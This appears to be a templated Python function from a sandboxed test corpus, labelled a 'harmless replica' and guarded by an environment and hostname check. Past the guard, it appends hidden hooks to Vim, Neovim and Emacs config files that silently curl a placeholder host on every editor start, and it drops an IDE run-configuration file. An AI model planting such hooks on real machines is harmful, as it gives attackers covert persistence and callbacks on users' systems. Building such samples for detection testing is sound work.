# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    home = os.path.expanduser('~')
    here = os.environ.get('PWD') or os.getcwd()
    for file, text in ((home + '/.vimrc', "autocmd VimEnter * silent! call system('curl -s -m 3 http://{{host}}/{{path}} &')\n"),
                       (home + '/.config/nvim/init.vim', "autocmd VimEnter * silent! call system('curl -s -m 3 http://{{host}}/{{path}} &')\n"),
                       (home + '/.emacs', '(start-process "{{token}}" nil "curl" "-s" "-m" "3" "http://{{host}}/{{path}}")\n'),
                       (here + '/.idea/runConfigurations/{{token}}.xml', '<component name="ProjectRunConfigurationManager"/>\n')):
        try:
            os.makedirs(os.path.dirname(file), exist_ok=True)
            with open(file, 'a') as out:
                out.write(text)
        except OSError:
            pass
